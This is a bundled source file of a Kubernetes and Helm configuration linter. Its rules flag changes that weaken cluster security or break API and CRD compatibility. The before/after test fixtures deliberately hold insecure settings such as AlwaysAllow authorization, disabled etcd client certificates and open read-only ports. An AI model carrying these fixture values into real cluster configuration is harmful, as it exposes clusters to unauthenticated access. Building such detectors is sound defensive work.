    rank: (node) => words(node).includes("AlwaysAllow") ? 0 : words(node).length,
    outcomes: { flip: moved2("critical"), drop: moved2("high"), hardened: hardened("requests now checked") },
    examples: [
      {
        before: args('"--authorization-mode=Node,RBAC"'),
        after: args("--authorization-mode=AlwaysAllow"),
        outcome: "flip"
      },
      { before: args('"--authorization-mode=Node,RBAC"'), after: args("--authorization-mode=Node"), outcome: "flip" },
      { before: args('"--authorization-mode=Node,RBAC"'), after: args(""), outcome: "drop" },
      {
        before: kubelet("authorization: { mode: AlwaysAllow }"),
        after: kubelet("authorization: { mode: Webhook }"),
        outcome: "hardened"
      },
      {
        before: args('"--authorization-mode=Node,RBAC"'),
        after: args('"--authorization-mode=RBAC,Node"'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/insecure-port",
    class: "exposure",
    title: "unprotected port opened",
    why: "Requests to this port are neither encrypted nor asked who sends them.",
    fix: "Set it to `0`.",
    equivalents: ["checkov:CKV_K8S_86", "checkov:CKV_K8S_88", "checkov:CKV_K8S_141"],
    dialect: "kubernetes",
    governs: either(
      componentFlag("insecure-port"),
      componentFlag("insecure-bind-address"),
      componentFlag("read-only-port"),
      ofKind("KubeletConfiguration", "readOnlyPort")
    ),
    rank: (node) => node.kind === "scalar" ? Number(/^(?:0|127\.[\d.]+|localhost|::1)$/.test(node.text)) : void 0,
    absent: 1,
    outcomes: {
      flip: moved2("critical"),
      open: moved2("critical"),
      born: moved2("high"),
      hardened: hardened("unprotected port closed")
    },
    examples: [
      { before: args("--insecure-port=0"), after: args("--insecure-port=8080"), outcome: "flip" },
      { before: kubelet(""), after: kubelet("readOnlyPort: 10255"), outcome: "open" },
      { before: "", after: args("--read-only-port=10255"), outcome: "born" },
      { before: args("--read-only-port=10255"), after: args("--read-only-port=0"), outcome: "hardened" },
      { before: args("--insecure-port=0"), after: args(""), outcome: "none" }
    ]
  }),
  control({
    id: "config/component-certificates",
    class: "encryption-disabled",
    title: "certificate of a component taken away",
    why: "The component can no longer prove who it is, or no longer checks who it talks to.",
    fix: "Keep the flag, and renew the file it names.",
    equivalents: ["checkov:CKV_K8S_73", "checkov:CKV_K8S_100", "checkov:CKV_K8S_102", "checkov:CKV_K8S_140"],
    dialect: "kubernetes",
    governs: either(
      ...[
        "tls-cert-file",
        "tls-private-key-file",
        "client-ca-file",
        "etcd-cafile",
        "kubelet-certificate-authority"
      ].map((flag) => componentFlag(flag))
    ),
    rank: (node) => node.kind === "scalar" && node.text !== "" ? 1 : 0,
    absent: 0,
    outcomes: { drop: moved2("high"), flip: moved2("high"), hardened: hardened("component has a certificate") },
    examples: [
      { before: args("--client-ca-file=/etc/ca.crt"), after: args(""), outcome: "drop" },
      { before: args("--client-ca-file=/etc/ca.crt"), after: args("--client-ca-file="), outcome: "flip" },
      { before: args(""), after: args("--client-ca-file=/etc/ca.crt"), outcome: "hardened" },
      { before: args("--client-ca-file=/etc/ca.crt"), after: args("--client-ca-file=/pki/ca.crt"), outcome: "none" }
    ]
  }),
  control({
    id: "config/admission-plugins",
    class: "permission-widening",
    title: "admission check switched off",
    why: "The API server accepts objects that this check refused or changed.",
    fix: "Keep the plugin.",
    equivalents: [
      "checkov:CKV_K8S_79",
      "checkov:CKV_K8S_80",
      "checkov:CKV_K8S_82",
      "checkov:CKV_K8S_83",
      "checkov:CKV_K8S_85"
    ],
    dialect: "kubernetes",
    governs: componentFlag("enable-admission-plugins"),
    rank: admits,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("admission check switched on") },
    examples: [
      {
        before: args('"--enable-admission-plugins=NodeRestriction,PodSecurity"'),
        after: args("--enable-admission-plugins=PodSecurity"),
        outcome: "flip"
      },
      {
        before: args("--enable-admission-plugins=NodeRestriction"),
        after: args('"--enable-admission-plugins=NodeRestriction,AlwaysAdmit"'),
        outcome: "flip"
      },
      { before: args("--enable-admission-plugins=NodeRestriction"), after: args(""), outcome: "drop" },
      { before: args(""), after: args("--enable-admission-plugins=NodeRestriction"), outcome: "hardened" },
      {
        before: args('"--enable-admission-plugins=NodeRestriction,PodSecurity"'),
        after: args('"--enable-admission-plugins=PodSecurity,NodeRestriction"'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/admission-plugins-disabled",
    class: "permission-widening",
    title: "admission check switched off by name",
    why: "The check is on by default; now the API server accepts objects that it refused or changed.",
    fix: "Take the plugin off the list.",
    equivalents: ["checkov:CKV_K8S_82", "checkov:CKV_K8S_83", "checkov:CKV_K8S_85"],
    dialect: "kubernetes",
    governs: componentFlag("disable-admission-plugins"),
    rank: (node) => ADMISSION_GUARDS.length - guards(node),
    absent: ADMISSION_GUARDS.length,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("admission check switched on again")
    },
    examples: [
      {
        before: args("--disable-admission-plugins=PodSecurity"),
        after: args('"--disable-admission-plugins=PodSecurity,ServiceAccount"'),
        outcome: "flip"
      },
      { before: args(""), after: args("--disable-admission-plugins=PodSecurity"), outcome: "open" },
      { before: "", after: args("--disable-admission-plugins=PodSecurity"), outcome: "born" },
      { before: args("--disable-admission-plugins=PodSecurity"), after: args(""), outcome: "hardened" },
      { before: args(""), after: args("--disable-admission-plugins=DefaultIngressClass"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/api-versions.ts
var budget = (version) => `apiVersion: ${version}
kind: PodDisruptionBudget
metadata: { name: web }
spec: { minAvailable: 1 }
`;
var custom = (version) => `apiVersion: example.com/${version}
kind: Shop
metadata: { name: web }
spec: { size: 1 }
`;
var deployedTo = (kubernetes) => ({ config: { isPublic: () => false, kubernetes } });
var says2 = ({ object: object2, from: from3, to }) => from3 === to ? `\`${object2}\` still uses \`${to}\`` : from3 === void 0 ? `\`${object2}\` is new and uses \`${to}\`` : `\`${object2}\` goes from \`${from3}\` to \`${to}\``;
var api_versions_default = configRule({
  id: "config/api-version",
  on: "api-version-moved",
  class: "compatibility",
  title: "version of an API moved",
  why: "Fields, defaults and checks differ between versions of an API.",
  fix: "Read what the new version changed, and try it where it can break nothing.",
  equivalents: ["kube-linter:no-extensions-v1beta"],
  outcomes: {
    withdrawn: {
      risk: "high",
      title: "withdrawn API version used",
      message: (c) => `${says2(c)}, which ${c.removedIn ?? ""} removed.`,
      why: "Clusters from that release on refuse the manifest.",
      fix: (c) => `Use \`${c.replacement ?? ""}\`.`
    },
    ending: {
      risk: "medium",
      title: "API version on its way out used",
      message: (c) => `${says2(c)}, which ${c.removedIn ?? ""} removes.`,
      why: "The clusters deployed to still serve it; the upgrade to that release breaks the manifest.",
      fix: (c) => `Use \`${c.replacement ?? ""}\`.`
    },
    older: {
      risk: "high",
      title: "API version lowered",
      message: (c) => `${says2(c)}, an older version.`,
      why: "Fields that only the newer version knows are dropped, and the older one goes away first.",
      fix: "Keep the newer version."
    },
    newer: { risk: "info", message: (c) => `${says2(c)}.` }
  },
  examples: [
    { before: budget("policy/v1"), after: budget("policy/v1beta1"), outcome: "withdrawn" },
    { before: "", after: budget("policy/v1beta1"), outcome: "withdrawn" },
    { before: "", after: budget("policy/v1beta1"), outcome: "ending", settings: deployedTo("1.24") },
    { before: "", after: budget("policy/v1beta1"), outcome: "withdrawn", settings: deployedTo("1.25") },
    {
      before: budget("policy/v1beta1"),
      after: budget("policy/v1beta1").replace("1 }", "2 }"),
      outcome: "withdrawn",
      settings: deployedTo("1.25")
    },
    { before: custom("v1"), after: custom("v1beta1"), outcome: "older" },
    { before: budget("policy/v1beta1"), after: budget("policy/v1"), outcome: "newer" },
    { before: "", after: budget("policy/v1"), outcome: "none" },
    { before: budget("policy/v1beta1"), after: budget("policy/v1beta1 # soon v1"), outcome: "none" }
  ],
  classify: ({ removedIn, isServed: isServed4, isOlder }) => {
    if (removedIn !== void 0) return isServed4 === true ? "ending" : "withdrawn";
    return isOlder ? "older" : "newer";
  }
});

// src/domains/config/rules/kubernetes/broken-references.ts
var map3 = (keys, name = "shop") => `apiVersion: v1
kind: ConfigMap
metadata: { name: ${name} }
data: { ${keys} }
`;
var reading = container("env: [{ name: SIZE, valueFrom: { configMapKeyRef: { name: shop, key: size } } }]");
var secret = (data) => `apiVersion: v1
kind: Secret
metadata: { name: shop }
data: ${data}
`;
var readingSecret = container("env: [{ name: SIZE, valueFrom: { secretKeyRef: { name: shop, key: size } } }]");
var both = (...documents2) => documents2.join("---\n");
var labelled = (workload) => workload.replace("  template:\n", "  template:\n    metadata: { labels: { app: web } }\n");
var service2 = object("v1", "Service")("selector: { app: web }\nports: [{ port: 80, targetPort: http }]");
var listening = (name) => labelled(container(`ports: [{ containerPort: 80, name: ${name} }]`));
var mounting = (volume4) => `${container("volumeMounts: [{ name: data, mountPath: /data }]")}      volumes: [{ name: ${volume4}, emptyDir: {} }]
`;
var ingress = object(
  "networking.k8s.io/v1",
  "Ingress"
)("defaultBackend: { service: { name: web, port: { number: 80 } } }");
var budget2 = (least) => object("policy/v1", "PodDisruptionBudget")(`minAvailable: ${least}
selector: { matchLabels: { app: web } }`);
var broken_references_default = configRule({
  id: "config/reference-broken",
  on: "reference-broken",
  class: "compatibility",
  title: "name that stands for nothing any more",
  why: "New pods do not start: what they need is not there.",
  fix: "Keep the old name until nothing refers to it, or change those who refer to it in the same step.",
  equivalents: ["kube-linter:dangling-service", "kube-linter:non-existent-service-account"],
  outcomes: {
    object: {
      risk: "high",
      message: (c) => `\`${c.object}\` still refers to \`${c.to}\`, which was removed or renamed.`
    },
    key: { risk: "high", message: (c) => `\`${c.object}\` still reads \`${c.to}\`, which was removed or renamed.` },
    emptied: {
      risk: "low",
      title: "secret no longer filled from here",
      message: (c) => `\`${c.object}\` still reads \`${c.to}\`, which the repository leaves empty now.`,
      why: "Until something else fills the Secret, new pods do not start.",
      fix: "Say beside the Secret what fills it, and make sure that it runs first."
    },
    volume: { risk: "high", message: (c) => `\`${c.object}\` mounts the volume \`${c.to}\`, which it no longer has.` },
    port: {
      risk: "high",
      message: (c) => `\`${c.object}\` sends requests to the port \`${c.to}\`, which its pods do not list.`,
      why: "Requests to the service are refused.",
      fix: "Name a port that the containers list.",
      equivalents: ["kube-linter:dangling-service", "kube-linter:invalid-target-ports"]
    },
    "unlisted-port": {
      risk: "low",
      message: (c) => `\`${c.object}\` sends requests to the port \`${c.to}\`, which its pods do not list.`,
      why: "Unless the program listens there all the same, requests to the service are refused.",
      fix: "List the port in the container, or send requests to one that is listed.",
      equivalents: ["kube-linter:dangling-service", "kube-linter:invalid-target-ports"]
    },
    backend: {
      risk: "high",
      message: (c) => `\`${c.object}\` still sends requests to \`${c.to}\`, which was removed or renamed.`,
      why: "Requests to those paths fail.",
      fix: "Name a Service that is there, in the same step.",
      equivalents: ["kube-linter:dangling-ingress"]
    },
    pods: {
      risk: "high",
      message: (c) => `\`${c.object}\` no longer selects \`${c.to}\`, whose pods have other labels now.`,
      why: "No pod answers behind the service: requests to it fail.",
      fix: "Keep the labels that the Service selects, or change its selector in the same step.",
      equivalents: ["kube-linter:dangling-service"]
    },
    budget: {
      risk: "medium",
      class: "availability",
      title: "disruption budget lets no pod go",
      message: (c) => `\`${c.object}\` asks for as many pods as \`${c.to}\` has.`,
      why: "No pod may ever be evicted: node drains and cluster upgrades stand still.",
      fix: "Ask for one pod less than there are.",
      equivalents: ["kube-linter:pdb-min-available"]
    }
  },
  examples: [
    {
      before: both(map3("a: b"), pod("volumes: [{ name: v, configMap: { name: shop } }]")),
      after: pod("volumes: [{ name: v, configMap: { name: shop } }]"),
      outcome: "object"
    },
    { before: both(map3('size: "1", a: b'), reading), after: both(map3("a: b"), reading), outcome: "key" },
    {
      before: both(secret("{ size: MQ==, key: Mg== }"), readingSecret),
      after: both(secret("{}"), readingSecret),
      outcome: "emptied"
    },
    { before: mounting("data"), after: mounting("store"), outcome: "volume" },
    { before: both(service2, listening("http")), after: both(service2, listening("web")), outcome: "port" },
    {
      before: both(service2.replace("http", "80"), listening("http")),
      after: both(service2.replace("http", "8080"), listening("http")),
      outcome: "unlisted-port"
    },
    { before: both(service2, ingress), after: ingress, outcome: "backend" },
    {
      before: { "web/service.yaml": service2, "web/app.yaml": listening("http") },
      after: { "web/service.yaml": service2, "web/app.yaml": listening("http").replace("app: web", "app: shop") },
      outcome: "pods"
    },
    {
      before: { "web/map.yaml": map3("a: b"), "web/app.yaml": pod("volumes: [{ name: v, configMap: { name: shop } }]") },
      after: { "web/app.yaml": pod("volumes: [{ name: v, configMap: { name: shop } }]") },
      outcome: "object"
    },
    {
      before: both(budget2(2), labelled(pod("", 3))),
      after: both(budget2(3), labelled(pod("", 3))),
      outcome: "budget"
    },
    { before: both(map3('size: "1"'), reading), after: both(map3('size: "2"'), reading), outcome: "none" },
    {
      before: both(map3("a: b"), pod("volumes: [{ name: v, configMap: { name: shop, optional: true } }]")),
      after: pod("volumes: [{ name: v, configMap: { name: shop, optional: true } }]"),
      outcome: "none"
    },
    { before: both(map3("a: b"), pod()), after: pod(), outcome: "none" }
  ],
  // A name must be listed to stand for a port; a number stands for itself.
  classify: ({ what, to }) => what === "port" && /^\d+$/.test(to) ? "unlisted-port" : what
});

// src/domains/config/rules/kubernetes/chart-switches.ts
var dialect18 = "helm-values";
var path10 = "charts/app/values.yaml";
var below4 = (block2) => (text) => `${block2}:
  name: app
  ${text}
`;
var switchOfPart = (part) => ({ keys }) => /^(?:enabled?|create)$/.test(keys.at(-1) ?? "") && part.test(keys.at(-2) ?? "");
var chart_switches_default = [
  control({
    id: "config/chart-network-policy-off",
    class: "exposure",
    title: "network policy of a chart switched off",
    why: "The chart installs no NetworkPolicy any more: every pod of the cluster may reach its pods.",
    fix: "Keep it on, and name the callers it turns away.",
    dialect: dialect18,
    governs: switchOfPart(/^network-?polic(?:y|ies)$/i),
    rank: safeOn,
    ...safeWhenOn({
      risk: "high",
      dropped: "low",
      praise: "network policy of a chart switched on",
      weak: "enabled: false",
      safe: "enabled: true",
      path: path10,
      file: below4("networkPolicy")
    })
  }),
  control({
    id: "config/chart-network-policy-opened",
    class: "exposure",
    title: "network policy of a chart lets others in",
    why: "Pods without the label of a client may reach the pods of the chart.",
    fix: "Keep it `false`, and give the label to those who must call.",
    dialect: dialect18,
    governs: ({ keys }) => keys.at(-1) === "allowExternal" && /^networkPolicy$/i.test(keys.at(-2) ?? ""),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "network policy of a chart turns others away",
      weak: "allowExternal: true",
      safe: "allowExternal: false",
      path: path10,
      file: below4("networkPolicy")
    })
  }),
  control({
    id: "config/chart-security-context-off",
    class: "permission-widening",
    title: "security context of a chart switched off",
    why: "What the context asks of the container, a user other than root among it, is no longer rendered.",
    fix: "Keep it on, and change the single field that stands in the way.",
    dialect: dialect18,
    governs: ({ keys }) => keys.at(-1) === "enabled" && /securityContext$/i.test(keys.at(-2) ?? ""),
    rank: safeOn,
    ...safeWhenOn({
      risk: "high",
      dropped: "low",
      praise: "security context of a chart switched on",
      weak: "enabled: false",
      safe: "enabled: true",
      path: path10,
      file: below4("containerSecurityContext")
    })
  }),
  control({
    id: "config/chart-probe-off",
    class: "availability",
    title: "probe of a chart switched off",
    why: "Containers that hang or have not started are taken for working: requests fail, and rollouts go on.",
    fix: "Keep the probe on; give it more time where it is too hasty.",
    dialect: dialect18,
    governs: switchOfPart(/(?:readiness|liveness)Probe$/i),
    rank: safeOn,
    ...safeWhenOn({
      risk: "medium",
      dropped: "low",
      praise: "probe of a chart switched on",
      weak: "enabled: false",
      safe: "enabled: true",
      path: path10,
      file: below4("readinessProbe")
    })
  }),
  control({
    id: "config/chart-budget-off",
    class: "availability",
    title: "disruption budget of a chart switched off",
    why: "A node drain may now stop all its pods at once.",
    fix: "Keep a disruption budget that leaves at least one pod running.",
    dialect: dialect18,
    governs: switchOfPart(/^(?:pdb|pod-?disruption-?budget)$/i),
    rank: safeOn,
    ...safeWhenOn({
      risk: "medium",
      dropped: "low",
      praise: "disruption budget of a chart switched on",
      weak: "create: false",
      safe: "create: true",
      path: path10,
      file: below4("pdb")
    })
  }),
  control({
    id: "config/chart-recreates",
    class: "availability",
    title: "chart stops all pods before it starts new ones",
    why: "Each rollout is an outage, as long as a pod takes to start.",
    fix: "Keep `RollingUpdate`; where two may not run at once, say so beside it.",
    dialect: dialect18,
    governs: ({ keys }) => keys.at(-1) === "type" && /^(?:update|deployment|rollout)?-?strategy$/i.test(keys.at(-2) ?? ""),
    rank: unless("Recreate"),
    ...weakWhenSet({
      risk: "high",
      praise: "chart replaces its pods one by one",
      weak: "type: Recreate",
      safe: "type: RollingUpdate",
      path: path10,
      file: below4("updateStrategy")
    })
  })
];

// src/domains/config/rules/kubernetes/components.ts
var args2 = (flag) => container(flag === "" ? "args: [--port=1]" : `args: [--port=1, ${flag}]`);
var kubelet2 = (lines) => `apiVersion: kubelet.config.k8s.io/v1beta1
kind: KubeletConfiguration
port: 10250
${lines}
`;
var etcd = (lines) => `name: etcd-1
data-dir: /var/lib/etcd
${lines}
`;
var TRANSPORTS = ["client-transport-security", "peer-transport-security"];
var components_default = [
  control({
    id: "config/etcd-client-certificates",
    class: "permission-widening",
    title: "etcd no longer asks for certificates",
    why: "Whoever reaches etcd reads and writes all it holds: in a cluster, every secret and every object.",
    fix: "Set it to `true` again; if certificates are the trouble, rotate them first.",
    equivalents: ["checkov:CKV_K8S_117", "checkov:CKV_K8S_121"],
    dialect: "kubernetes",
    governs: either(componentFlag("client-cert-auth"), componentFlag("peer-client-cert-auth")),
    rank: safeOn,
    ...safeWhenSet({
      risk: "critical",
      praise: "etcd now asks for certificates",
      weak: "--client-cert-auth=false",
      safe: "--client-cert-auth=true",
      file: args2
    })
  }),
  control({
    id: "config/etcd-transport-removed",
    class: "encryption-disabled",
    title: "etcd no longer encrypts",
    why: "What etcd holds, secrets included, crosses the network in clear text, and anybody may join or read.",
    fix: "Keep the block, and renew the certificates it names.",
    equivalents: ["checkov:CKV_K8S_116", "checkov:CKV_K8S_119"],
    governs: either(...TRANSPORTS.map((block2) => atEnd(block2))),
    rank: present,
    absent: 0,
    outcomes: {
      drop: removed("critical", "transport security of etcd"),
      hardened: hardened("etcd now encrypts")
    },
    examples: [
      {
        path: "etcd.yaml",
        before: etcd("client-transport-security: { cert-file: a.crt }"),
        after: etcd(""),
        outcome: "drop"
      },
      {
        path: "etcd.yaml",
        before: etcd(""),
        after: etcd("peer-transport-security: { cert-file: a.crt }"),
        outcome: "hardened"
      },
      {
        path: "etcd.yaml",
        before: etcd("client-transport-security: { cert-file: a.crt }"),
        after: etcd("client-transport-security: { cert-file: b.crt }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/etcd-auto-tls",
    class: "encryption-disabled",
    title: "etcd makes up its own certificates",
    why: "Nobody can check a certificate that etcd signs itself: an attacker in between goes unseen.",
    fix: "Name certificates of a CA of your own.",
    equivalents: ["checkov:CKV_K8S_118"],
    governs: either(
      componentFlag("auto-tls"),
      componentFlag("peer-auto-tls"),
      ...TRANSPORTS.map((block2) => atEnd(block2, "auto-tls"))
    ),
    rank: safeOff,
    absent: 1,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      hardened: hardened("etcd uses certificates that can be checked")
    },
    examples: [
      { before: args2("--auto-tls=false"), after: args2("--auto-tls=true"), outcome: "flip" },
      { before: args2(""), after: args2("--auto-tls"), outcome: "open" },
      { before: args2("--auto-tls=true"), after: args2(""), outcome: "hardened" },
      { before: args2(""), after: args2("--auto-tls=false"), outcome: "none" }
    ]
  }),
  control({
    id: "config/audit-log-removed",
    class: "observability",
    title: "audit log of the API server switched off",
    why: "Nobody can tell any more who did what to the cluster.",
    fix: "Keep `--audit-log-path` and its policy.",
    equivalents: ["checkov:CKV_K8S_91"],
    dialect: "kubernetes",
    governs: either(componentFlag("audit-log-path"), componentFlag("audit-policy-file")),
    rank: () => 1,
    absent: 0,
    outcomes: { drop: moved2("high"), hardened: hardened("audit log of the API server switched on") },
    examples: [
      { before: args2("--audit-log-path=/var/log/audit.log"), after: args2(""), outcome: "drop" },
      { before: args2(""), after: args2("--audit-log-path=/var/log/audit.log"), outcome: "hardened" },
      { before: args2("--audit-log-path=/a.log"), after: args2("--audit-log-path=/b.log"), outcome: "none" }
    ]
  }),
  control({
    id: "config/audit-log-shortened",
    class: "observability",
    title: "audit log of the API server kept shorter",
    why: "By the time somebody looks into an attack, the log of it is gone.",
    fix: "Keep 30 days and 10 files or more, or send the log elsewhere.",
    equivalents: ["checkov:CKV_K8S_92", "checkov:CKV_K8S_93", "checkov:CKV_K8S_94"],
    dialect: "kubernetes",
    governs: either(...["maxage", "maxbackup", "maxsize"].map((name) => componentFlag(`audit-log-${name}`))),
    rank: (node) => node.kind === "scalar" && /^\d{1,6}$/.test(node.text) ? Number(node.text) : void 0,
    outcomes: { flip: moved2("medium"), drop: moved2("medium"), hardened: hardened("audit log kept longer") },
    examples: [
      { before: args2("--audit-log-maxage=30"), after: args2("--audit-log-maxage=1"), outcome: "flip" },
      { before: args2("--audit-log-maxbackup=10"), after: args2(""), outcome: "drop" },
      { before: args2("--audit-log-maxage=7"), after: args2("--audit-log-maxage=30"), outcome: "hardened" },
      { before: args2(""), after: args2("--audit-log-maxage=30"), outcome: "none" }
    ]
  }),
  control({
    id: "config/profiling-on",
    class: "observability",
    title: "profiling pages served",
    why: "The pages show the inside of the component and cost it time when they are called.",
    fix: "Set `--profiling=false` again.",
    equivalents: ["checkov:CKV_K8S_90", "checkov:CKV_K8S_107", "checkov:CKV_K8S_114"],
    dialect: "kubernetes",
    governs: either(
      componentFlag("profiling"),
      ofKind("KubeletConfiguration", "enableDebuggingHandlers"),
      ofKind("KubeletConfiguration", "enableProfilingHandler")
    ),
    rank: safeOff,
    ...safeWhenSet({
      risk: "medium",
      praise: "profiling pages no longer served",
      weak: "--profiling=true",
      safe: "--profiling=false",
      file: args2
    })
  }),
  control({
    id: "config/kubelet-guard-off",
    class: "permission-widening",
    title: "guard of the kubelet switched off",
    why: "The node keeps old certificates, or takes kernel settings that the kubelet would refuse.",
    fix: "Set it to `true` again.",
    equivalents: ["checkov:CKV_K8S_144", "checkov:CKV_K8S_145", "checkov:CKV_K8S_149"],
    dialect: "kubernetes",
    governs: either(
      ...["rotateCertificates", "serverTLSBootstrap", "protectKernelDefaults", "makeIPTablesUtilChains"].map(
        (name) => ofKind("KubeletConfiguration", name)
      ),
      ...[
        "rotate-certificates",
        "rotate-server-certificates",
        "protect-kernel-defaults",
        "make-iptables-util-chains"
      ].map((flag) => componentFlag(flag))
    ),
    rank: safeOn,
    outcomes: { flip: moved2("medium"), drop: moved2("medium"), hardened: hardened("guard of the kubelet switched on") },
    examples: [
      { before: kubelet2("rotateCertificates: true"), after: kubelet2("rotateCertificates: false"), outcome: "flip" },
      { before: kubelet2("protectKernelDefaults: true"), after: kubelet2(""), outcome: "drop" },
      {
        before: kubelet2("serverTLSBootstrap: false"),
        after: kubelet2("serverTLSBootstrap: true"),
        outcome: "hardened"
      },
      { before: kubelet2(""), after: kubelet2("rotateCertificates: true"), outcome: "none" }
    ]
  })
];

// src/domains/config/kubernetes/crd-words.ts
var among2 = (...outcomes) => ({ what }) => outcomes.find((outcome) => outcome === what);
function values({ from: from3, to = "unset" }) {
  const now = `\`${to === "" ? '""' : to}\``;
  return from3 === void 0 ? `is now ${now}` : `goes from \`${from3 === "" ? '""' : from3}\` to ${now}`;
}
var more = ({ others }) => others > 0 ? ` (and ${others} more)` : "";
var fieldOf = (change) => `${change.field === "" ? "The root" : `\`${change.field}\``}${more(change)} of \`${change.crd}\``;

// src/domains/config/rules/kubernetes/crd-behaviour.ts
var crd = (schema) => `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: shops.example.com }
spec:
  versions:
    - name: v1
      served: true
      schema: { openAPIV3Schema: { type: object, properties: { size: ${schema} } } }
`;
var INTEGER = "{ type: integer }";
var crd_behaviour_default = [
  configRule({
    id: "config/crd-behaviour",
    on: "crd-broken",
    class: "schema-breaking",
    title: "custom objects mean something else",
    why: "Objects that leave the field out now get another value, on the next write or read.",
    fix: "Keep the default, and set the new value in the manifests that want it.",
    outcomes: {
      "default-changed": { risk: "medium", message: (c) => `The default of ${fieldOf(c)} ${values(c)}.` },
      "enum-widened": {
        risk: "low",
        message: (c) => `${fieldOf(c)} may now be \`${c.to ?? ""}\` too.`,
        why: "Controllers and scripts that know the old values only meet one they do not expect.",
        fix: "Let all who read the field know the value before anybody writes it."
      },
      "merge-changed": {
        risk: "medium",
        message: (c) => `The way ${fieldOf(c)} is merged ${values(c)}.`,
        why: "Server-side apply joins or replaces its entries differently, and owners may overwrite each other.",
        fix: "Keep the list type while several owners write the field."
      }
    },
    examples: [
      {
        before: crd("{ type: string, enum: [a] }"),
        after: crd("{ type: string, enum: [a, b] }"),
        outcome: "enum-widened"
      },
      { before: crd("{ type: integer, default: 1 }"), after: crd(INTEGER), outcome: "default-changed" },
      {
        before: crd("{ type: integer, default: 1 }"),
        after: crd("{ type: integer, default: 2 }"),
        outcome: "default-changed"
      },
      {
        before: crd("{ type: array, items: { type: string }, x-kubernetes-list-type: set }"),
        after: crd("{ type: array, items: { type: string }, x-kubernetes-list-type: atomic }"),
        outcome: "merge-changed"
      },
      { before: crd("{ type: integer, default: 1 }"), after: crd("{ default: 1, type: integer }"), outcome: "none" }
    ],
    classify: among2("default-changed", "merge-changed", "enum-widened")
  })
];

// src/domains/config/rules/kubernetes/crd-envelope.ts
var crd2 = ({
  stored = "v1",
  conversion = "Webhook",
  subresources = "{ status: {} }",
  shortNames = "[sh]"
} = {}) => `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: shops.example.com }
spec:
  conversion: { strategy: ${conversion} }
  names: { plural: shops, shortNames: ${shortNames} }
  versions:
    - { name: v1, served: true, storage: ${stored === "v1"}, subresources: ${subresources} }
    - { name: v2, served: true, storage: ${stored === "v2"}, subresources: { status: {} } }
`;
var crd_envelope_default = configRule({
  id: "config/crd-envelope",
  on: "crd-broken",
  class: "schema-breaking",
  title: "custom objects handled otherwise",
  why: "Clients and controllers that rely on it get errors.",
  fix: "Keep it until nobody uses it any more.",
  outcomes: {
    "conversion-removed": {
      risk: "high",
      title: "custom objects no longer converted",
      message: (c) => `\`${c.crd}\` serves several versions and no longer converts between them.`,
      why: "Objects are handed out with another version\u2019s name on the fields of their own: those that differ are lost.",
      fix: "Keep the webhook for as long as two versions with different fields are served."
    },
    "subresource-removed": {
      risk: "high",
      title: "subresource of custom objects removed",
      message: (c) => `\`${c.crd}\` no longer has the subresource \`${c.field}\`.`,
      why: "Controllers that write the status, and autoscalers that scale, get an error on every attempt."
    },
    "storage-moved": {
      risk: "medium",
      title: "custom objects stored in another version",
      message: (c) => `The stored version of \`${c.crd}\` ${values(c)}.`,
      why: "A rollback to a release without this version cannot read what is written from now on.",
      fix: "Serve the new version for one release first; then store it, and migrate the objects."
    },
    "selectable-removed": {
      risk: "medium",
      title: "field no longer selectable",
      message: (c) => `Objects of \`${c.crd}\` can no longer be selected by \`${c.field}\`.`,
      why: "Watches and lists with that field selector get an error."
    },
    "short-name-removed": {
      risk: "low",
      title: "short name removed",
      message: (c) => `\`${c.crd}\` no longer goes by the short name \`${c.field}\`.`,
      why: "Scripts and people who type it get an error."
    }
  },
  examples: [
    { before: crd2(), after: crd2({ conversion: "None" }), outcome: "conversion-removed" },
    { before: crd2(), after: crd2({ subresources: "{}" }), outcome: "subresource-removed" },
    { before: crd2(), after: crd2({ stored: "v2" }), outcome: "storage-moved" },
    { before: crd2(), after: crd2({ shortNames: "[]" }), outcome: "short-name-removed" },
    {
      before: crd2().replace("v1, served", "v1, selectableFields: [{ jsonPath: .spec.size }], served"),
      after: crd2(),
      outcome: "selectable-removed"
    },
    {
      before: crd2(),
      after: crd2({ shortNames: "[sp, sh]", subresources: "{ scale: {}, status: {} }" }),
      outcome: "none"
    },
    { before: "", after: crd2(), outcome: "none" }
  ],
  classify: among2(
    "conversion-removed",
    "subresource-removed",
    "storage-moved",
    "short-name-removed",
    "selectable-removed"
  )
});

// src/domains/config/rules/kubernetes/crd-narrowed.ts
var INTEGER2 = "{ type: integer }";
var TEXT2 = "{ type: string }";
var needing = (schema) => definitionOf(schema).replace("required: []", "required: [size]");
var crd_narrowed_default = configRule({
  id: "config/crd-narrowed",
  on: "crd-broken",
  class: "schema-breaking",
  title: "definition accepts less",
  why: "Objects that exist may no longer validate, and then nobody can change them; manifests that worked are refused.",
  fix: "Keep accepting what was valid; check new rules with a transition rule that spares old objects.",
  outcomes: {
    "required-added": { risk: "high", message: (c) => `${fieldOf(c)} is now required, without a default.` },
    "enum-narrowed": {
      risk: "high",
      message: (c) => `${fieldOf(c)} takes fewer values: it loses \`${c.from ?? ""}\`.`
    },
    "bound-tightened": { risk: "high", message: (c) => `The bound of ${fieldOf(c)} ${values(c)}.` },
    "enum-added": { risk: "medium", message: (c) => `${fieldOf(c)} now takes only \`${c.to ?? ""}\`.` },
    "bound-added": { risk: "medium", message: (c) => `${fieldOf(c)} has a new bound of \`${c.to ?? ""}\`.` },
    "null-refused": { risk: "high", message: (c) => `${fieldOf(c)} may no longer be null.` },
    "unknown-refused": {
      risk: "high",
      message: (c) => `${fieldOf(c)} no longer keeps fields that the schema does not list.`,
      why: "Such fields of objects that exist are dropped on the next write.",
      fix: "List the fields in use before unknown ones are dropped."
    },
    "pattern-added": { risk: "medium", message: (c) => `The pattern of ${fieldOf(c)} ${values(c)}.` },
    "pattern-changed": {
      risk: "low",
      title: "pattern of a field changed",
      message: (c) => `The pattern of ${fieldOf(c)} ${values(c)}.`,
